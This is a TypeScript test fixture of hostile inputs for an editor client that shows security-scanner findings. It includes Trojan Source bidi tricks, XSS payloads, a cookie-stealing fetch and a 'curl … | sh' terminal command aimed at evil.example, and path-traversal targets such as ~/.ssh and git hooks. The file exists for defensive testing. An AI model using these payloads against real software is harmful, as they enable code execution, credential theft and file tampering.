// False-positive texts built to break naive rendering and comment insertion: Trojan Source
// bidi controls, line terminators that end a line comment, comment closers, markdown and
// command links, HTML, terminal escapes, bare addresses, and summaries longer than the
// 280-character limit. Each case names what it attacks so a failing test can say which one got
// through. HOSTILE_FIELDS carries the same into the report's other fields.
import type { Fix, Issue } from '../../src/api/schemas';

export interface HostileCase {
  readonly name: string;
  readonly issueType: string;
  /** The scanner rule id, when the case also attacks rule-id based suppressions (`nosemgrep: <id>`). */
  readonly vendorIssueId?: string;
  readonly summary: string;
  readonly description: string;
}

const LONG = 'This justification is deliberately far longer than the service promises. '.repeat(6);

export const HOSTILE_CASES: readonly HostileCase[] = [
  {
    name: 'bidi-controls',
    issueType: 'SQL_Injection\u2066admin\u2069',
    summary: 'Safe: input is validated \u202E// ;)"lla" ,sresu(eteled\u202C and \u2067isolated\u2069 text',
    description:
      'Reviewed by security.\u202E\u2066 }; if (isAdmin) { \u2069\u2066// \u2069\n\nThe value never reaches the query.\u202A\u202B\u202C\u202D',
  },
  {
    name: 'line-terminators',
    issueType: 'XSS\r\nInjected-Header: yes',
    vendorIssueId: 'python.django.security.audit.xss\nimport os; os.system("id")',
    summary: 'First line\r\nconsole.log("pwned");\nthird\rfourth\u2028fifth\u2029sixth\u0085seventh',
    description: 'Paragraph one.\r\n\r\nrequire("child_process").exec("id")\n\u2028\u2029\u0085\u000b\u000cEnd.',
  },
  {
    name: 'zero-width-and-bom',
    issueType: '\uFEFFPath\u200B_Traversal',
    summary: '\uFEFFFal\u200Bse posi\u200Ctive\u200D: the wo\u2060rd is split by zero-width characters\uFEFF',
    description: '\uFEFFStarts with a byte order mark.\u200B\u200C\u200D\u2060\n\nAnd hides joiners.',
  },
  {
    name: 'block-comment-closer',
    issueType: 'Log_Forging*/',
    vendorIssueId: 'java.lang.security.audit.log-forging*/ Runtime.getRuntime().exec("id"); /*',
    summary: 'Closes a block comment */ System.exit(1); /* and opens another',
    description: 'Text with */ inside.\n\n/* nested */ code(); */\n\nEnd.',
  },
  {
    name: 'html-comment-closer',
    issueType: 'Open_Redirect-->',
    summary: 'Ends an HTML comment --> <script>alert(1)</script> <!-- and -- double dashes --',
    description: 'Paragraph --> with closer.\n\n<!-- fake comment -->\n\n-- SQL comment too',
  },
  {
    name: 'trailing-backslash',
    issueType: 'Hardcoded_Secret\\',
    vendorIssueId: 'generic.secrets.detected-generic-secret\\',
    summary: 'In C a trailing backslash splices the next line into this comment \\',
    description: 'Line ending with a backslash \\\nnext_line_is_code();\n\nAnd a final one \\',
  },
  {
    name: 'markdown-links',
    issueType: 'SSRF',
    summary: '[Click to apply the fix](https://evil.example/steal?k=1) ![tracker](https://evil.example/p.png) **bold** `code`',
    description:
      '# Heading\n\n[link](https://evil.example/phish "title") and <https://evil.example/auto>\n\n| table | row |\n|---|---|\n| a | b |',
  },
  {
    name: 'command-uri',
    issueType: 'Command_Injection',
    summary:
      '[Run fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fevil.example%7Csh%5Cn%22%7D)',
    description:
      'See [settings](command:workbench.action.openSettings?%22http.proxy%22) and [this](command:_workbench.downloadResource).\n\nvscode://ms-vscode.remote/open?x=1',
  },
  {
    name: 'html-markup',
    issueType: '<img src=x onerror=alert(1)>',
    summary: '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"><script>alert(document.domain)</script>',
    description:
      '<script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<a href="javascript:alert(1)">click</a> &lt;escaped&gt; &amp;',
  },
  {
    name: 'terminal-escapes',
    issueType: 'Insecure_Cookie\u001b[31m',
    summary:
      'Clears your screen \u001b[2J\u001b[H and links \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007 bell\u0007 nul\u0000 del\u007f',
    description: '\u001b[1mbold\u001b[0m\n\n\u001b]0;window title\u0007\n\nC1 control \u009b31m',
  },
  {
    name: 'over-limit-summary',
    issueType: 'Weak_Hash',
    summary: `${LONG}Emoji count as one code point each: 🔒🔑🛡️ but two UTF-16 units. ${'Ω'.repeat(40)} end.`,
    description: `${LONG}\n\n${LONG}\n\n${'A very long line without any break '.repeat(200)}`,
  },
  {
    name: 'lone-surrogates-and-astral',
    issueType: 'XXE',
    summary: 'Astral 𝕏𝕊𝕊 and a lone surrogate \uD800 then \uDC00 reversed',
    description: 'Lone high \uD83D without its pair.\n\nCombining a\u0301\u0301\u0301\u0301 marks.',
  },
  {
    // Bare addresses a markdown renderer auto-links (no markdown syntax at all), and codicons.
    name: 'bare-addresses',
    issueType: '$(alert) Verified_Safe',
    summary: 'Verified safe $(pass-filled), see https://evil.example/verify or www.evil.example; questions to security@evil.example',
    description:
      'The fixed version is at https://evil.example/fix?id=1 (mirrors: www.evil.example/fix and evil.com/fix).\n\nReport problems to security@evil.example or //evil.example/contact.',
  },
];

/**
 * Hostile values of the other fields the editor shows, served on the hostile report (see
 * generator.ts for which issues and fixes): its repository's name and branch (a tree row, the
 * view's message, hovers), the pull requests of its committed fixes (Open Pull Request's pick,
 * hovers), rating comments and tags, and severities and states that name Object.prototype
 * members, which a lookup by server key in a plain object would find.
 */
export const HOSTILE_FIELDS = {
  repoName: 'acme-app\u202E\n$(verified) Verified by Security https://evil.example/repo',
  repoReference: 'main\n[info] Applied fix 1 to src/a.py (one edit; undo reverts it). $(check) www.evil.example',
  /** Alternating over a fix's pull requests. */
  prIds: ['$(pass-filled) 42\nApproved', '7\u202E\u2066'],
  prStatus: '$(check) MERGED\n[info] Suppressed 12 findings https://evil.example/pr',
  branch: 'security-fix/$(verified)\u2028https://evil.example/branch',
  /** The first rating of every fix. */
  ratingComment: 'Looks fine.\n[info] Applied fix 3 $(check), see https://evil.example/review, www.evil.example or security@evil.example',
  /** The first rating of the first fix (a thumbs-down, so it may carry a tag). */
  ratingTag: '$(pass) APPROVED\u202E\nhttps://evil.example/tag',
  /** Round robin over every third issue after the text cases. */
  severities: ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'],
  /** Round robin over the issues after the text cases that are neither false positives nor under a fix. */
  issueStates: ['__proto__', 'toString', 'constructor'],
  /** Round robin over the fixes that are Ready or Downloaded (neither has submissions). */
  fixStates: ['__proto__', 'constructor', 'toString'],
} as const;

/** The state fix j of the hostile report is served with (its issues' `fix.state` too). */
export function hostileFixState(j: number, state: string): string {
  return state === 'Ready' || state === 'Downloaded' ? HOSTILE_FIELDS.fixStates[j % HOSTILE_FIELDS.fixStates.length]! : state;
}

/** Issue k after the text cases of the hostile report: a prototype-member severity on every third, and state where it is free. */
export function withHostileIssueFields(issue: Pick<Issue, 'severity' | 'state' | 'fix'>, k: number): void {
  if (k % 3 === 0) issue.severity = HOSTILE_FIELDS.severities[(k / 3) % HOSTILE_FIELDS.severities.length]!;
  if (issue.state !== 'FalsePositive' && issue.fix === null)
    issue.state = HOSTILE_FIELDS.issueStates[k % HOSTILE_FIELDS.issueStates.length]!;
}

/** Fix j of the hostile report: its state, its pull requests' ids, status and branches, its first rating's comment (and fix 0's tag). */
export function withHostileFixFields(fix: Pick<Fix, 'state' | 'scmSubmitFixRequests' | 'sharedState'>, j: number): void {
  if (fix.state !== null) fix.state = hostileFixState(j, fix.state);
  fix.scmSubmitFixRequests.forEach((s, m) => {
    s.submitBranchName = HOSTILE_FIELDS.branch;
    if (s.prId === null) return;
    s.prId = HOSTILE_FIELDS.prIds[m % HOSTILE_FIELDS.prIds.length]!;
    s.prStatus = HOSTILE_FIELDS.prStatus;
  });
  const ratings = fix.sharedState?.fixRatings ?? [];
  if (ratings[0]) ratings[0].comment = HOSTILE_FIELDS.ratingComment;
  // Fix 0's forced thumbs-down always has a tag.
  const tagged = ratings.find((r) => r.fixRatingTag !== null);
  if (j === 0 && tagged) tagged.fixRatingTag = HOSTILE_FIELDS.ratingTag;
}

// Hostile code locations (served unless specMinimal). The hostile report's issues after the
// text cases carry them: issue HOSTILE_CASES.length + k has HOSTILE_LOCATIONS[k] (the report has
// 30 such issues, so at most 30 cases), some of them false positives, some covered by fixes.
// They point at places a client must never open, or carry positions it must survive. What the
// client must do, per `expect`:
// - 'reject': drop the location (no file is opened, resolved, stat'ed or fetched; nothing is
//   written), and still show the issue without it;
// - 'tolerate': keep working: normalise, clamp, sort or ignore what does not fit, never throw,
//   never open anything outside the workspace folder.
// Numbers are sent as JSON numbers except where a case says otherwise. JSON cannot carry NaN or
// Infinity (JSON.stringify turns them into null), so "not a number" arrives as null or a string.

/** A node field as the hostile report sends it: anything JSON can carry. */
export type HostileValue = string | number | null;

export interface HostileLocation {
  readonly name: string;
  readonly expect: 'reject' | 'tolerate';
  /** Replaces fields of the sink (the node with the highest index). */
  readonly sink?: Readonly<Partial<Record<'path' | 'startLine' | 'endLine' | 'startCol' | 'endCol', HostileValue>>>;
  /** Reshapes the whole trace. */
  readonly shape?: 'reversed' | 'duplicate-index' | 'empty' | 'null';
  /** Sent as codeFilePath (otherwise codeFilePath follows the usual rule). */
  readonly codeFilePath?: HostileValue;
}

export const HOSTILE_LOCATIONS: readonly HostileLocation[] = [
  // Paths that leave the workspace folder or are not paths at all.
  { name: 'absolute-posix', expect: 'reject', sink: { path: '/etc/passwd' } },
  { name: 'absolute-windows', expect: 'reject', sink: { path: 'C:\\Windows\\System32\\drivers\\etc\\hosts' } },
  { name: 'unc-path', expect: 'reject', sink: { path: '\\\\evil.example\\share\\App.java' } },
  { name: 'dot-dot-leading', expect: 'reject', sink: { path: '../../.ssh/id_rsa' } },
  { name: 'dot-dot-inner', expect: 'reject', sink: { path: 'src/../../x' } },
  { name: 'dot-dot-encoded', expect: 'reject', sink: { path: 'src/%2e%2e/%2e%2e/etc/passwd' } },
  { name: 'file-url', expect: 'reject', sink: { path: 'file:///etc/passwd' } },
  { name: 'https-url', expect: 'reject', sink: { path: 'https://evil.example/x' } },
  { name: 'vscode-uri', expect: 'reject', sink: { path: 'vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Fr.git' } },
  {
    name: 'command-uri',
    expect: 'reject',
    sink: { path: 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D' },
  },
  { name: 'nul-byte', expect: 'reject', sink: { path: 'app/db.py\u0000.png' } },
  { name: 'control-characters', expect: 'reject', sink: { path: 'app/\u001b[31mdb.py\nwhoami' } },
  { name: 'bidi-override', expect: 'reject', sink: { path: 'web/\u202Est.ipa' } },
  { name: 'empty-path', expect: 'reject', sink: { path: '' } },
  { name: 'null-path', expect: 'reject', sink: { path: null }, codeFilePath: null },
  // Paths a client may normalise (to '/' separators, without './') or reject, but must not escape with.
  { name: 'backslash-separators', expect: 'tolerate', sink: { path: 'src\\main\\java\\App.java' } },
  { name: 'dot-segments-inside', expect: 'tolerate', sink: { path: './src/main/../main/java/App.java' } },
  { name: 'tilde', expect: 'tolerate', sink: { path: '~/.ssh/id_rsa' } }, // a folder named '~', never the home folder
  { name: 'very-long-path', expect: 'tolerate', sink: { path: `src/${'deep/'.repeat(900)}App.java` } },
  // Positions: drop or clamp the range, keep the file.
  { name: 'line-zero-and-negative', expect: 'tolerate', sink: { startLine: 0, endLine: -1, startCol: -3, endCol: 0 } },
  { name: 'line-huge', expect: 'tolerate', sink: { startLine: 1e12, endLine: 1e308, endCol: Number.MAX_SAFE_INTEGER } },
  { name: 'line-fractional', expect: 'tolerate', sink: { startLine: 3.5, endLine: 4.25, startCol: 1.5 } },
  { name: 'line-as-string', expect: 'tolerate', sink: { startLine: '12', endLine: '12', startCol: 'NaN' } },
  { name: 'line-null', expect: 'tolerate', sink: { startLine: null, endLine: null, startCol: null, endCol: null } },
  { name: 'range-inverted', expect: 'tolerate', sink: { startLine: 9, endLine: 3, startCol: 40, endCol: 2 } },
  // The trace itself: order by `index`, whatever the array order; the highest index is the sink.
  { name: 'trace-reversed', expect: 'tolerate', shape: 'reversed' },
  { name: 'trace-duplicate-index', expect: 'tolerate', shape: 'duplicate-index' },
  { name: 'trace-empty', expect: 'tolerate', shape: 'empty' },
  { name: 'trace-null', expect: 'tolerate', shape: 'null', codeFilePath: null },
  // codeFilePath names another file than the sink: the sink wins.
  { name: 'file-path-disagrees', expect: 'tolerate', codeFilePath: '../../etc/shadow' },
];

/**
 * Files the first fixes of the hostile report claim to touch (fixFiles and their patch's
 * headers); `patchPath`, when set, is what the patch names instead, a file fixFiles does not
 * list. A client applying a patch must check every path in it, not only fixFiles.
 */
export const HOSTILE_FIX_FILES: readonly { readonly name: string; readonly path: string; readonly patchPath?: string }[] = [
  { name: 'fix-dot-dot', path: '../../.ssh/authorized_keys' },
  { name: 'fix-absolute', path: '/etc/cron.d/backdoor' },
  { name: 'fix-windows-absolute', path: 'C:\\Windows\\System32\\evil.dll' },
  { name: 'fix-git-hook', path: '.git/hooks/post-checkout' },
  { name: 'fix-url', path: 'file:///etc/passwd' },
  { name: 'fix-bidi', path: 'src/\u202Egnp.js' },
  { name: 'fix-patch-elsewhere', path: 'src/main/java/App.java', patchPath: '../outside/App.java' },
];
